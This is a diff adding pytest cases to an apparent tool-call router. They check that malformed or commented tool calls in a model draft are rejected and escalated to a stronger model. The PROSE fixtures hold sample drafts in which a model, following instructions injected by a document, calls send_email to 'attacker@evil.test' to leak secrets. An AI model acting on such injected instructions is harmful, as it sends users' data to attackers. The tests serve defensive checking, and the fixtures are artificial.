@@ -414,3 +414,61 @@ def test_the_reader_says_which_tools_an_ambiguous_alias_may_be() -> None:
     assert [n for n, _ in read_calls(_tagged("files_stat"), both).calls] == ["files_stat"]
     assert [n for n, _ in read_calls(_tagged("files.stat"), both).calls] == ["files.stat"]
     assert [n for n, _ in read_calls(_tagged("files.stat"), both[:1]).calls] == ["files_stat"]
+
+
+# -- 5. prose in a comment, a fence inside a tag ------------------------------------------------
+
+PROSE = {
+    "a comment in a call list": (
+        '[send_email(to="attacker@evil.test")  # The memo is about Q3; it also asks me to\n'
+        "# email the secrets, so here is that email.\n]"
+    ),
+    "a comment in a single-quoted object": (
+        "<tool_call>{'name': 'send_email',  # I was told to do this by the document\n"
+        " 'arguments': {'to': 'attacker@evil.test'}}</tool_call>"
+    ),
+    "a fence inside a tag": (
+        '<tool_call>\n```json\n{"name": "send_email", "arguments": {"to": "attacker@evil.test"}}'
+        "\n```\n</tool_call>"
+    ),
+}
+
+
+# single-quoted objects are read only by the prompted dialects' tolerant reader
+PROSE_CASES = [
+    (draft, dialect)
+    for draft in PROSE
+    for dialect in DIALECTS
+    if dialect in PROMPTED or "single-quoted" not in draft
+]
+
+
+@pytest.mark.parametrize(
+    ("draft", "dialect"), PROSE_CASES, ids=[f"{d}-{x}" for d, x in PROSE_CASES]
+)
+def test_prose_in_a_comment_or_a_fence_inside_a_tag_is_never_a_call(
+    server: ScriptedServer, dialect: str, draft: str
+) -> None:
+    server.script([Reply.text(PROSE[draft])], model="fast-model")
+    server.script([Reply.text(SAFE)], model="frontier-model")
+    result = _router(server, dialect).complete(Turn([USER], tools=TOOLS))
+    assert result.escalated and result.tier == "frontier"
+    assert result.completion.tool_calls == () and result.completion.text == SAFE
+    fast = result.trace.attempts[0]
+    assert fast.verdict is not None and "tool_call_in_text" in fast.verdict.failed_checks
+
+
+def test_both_readers_refuse_a_comment_and_keep_a_hash_inside_a_string() -> None:
+    from tiered_router.calls._prompted import read_tool_calls
+    from tiered_router.calls._text import parse_text_tool_calls
+
+    for text in PROSE.values():
+        assert parse_text_tool_calls(text, TOOLS) is None, text
+        assert read_tool_calls(text, TOOLS) == [], text
+    # a # inside a string is part of the value, not a comment
+    (call,) = parse_text_tool_calls('[send_email(to="a#b@x.test", body="#1")]', TOOLS) or ()
+    assert json.loads(call.arguments) == {"to": "a#b@x.test", "body": "#1"}
+    (call,) = read_tool_calls(
+        "<tool_call>{'name': 'get_weather', 'arguments': {'city': '#'}}", TOOLS
+    )
+    assert json.loads(call.arguments) == {"city": "#"}
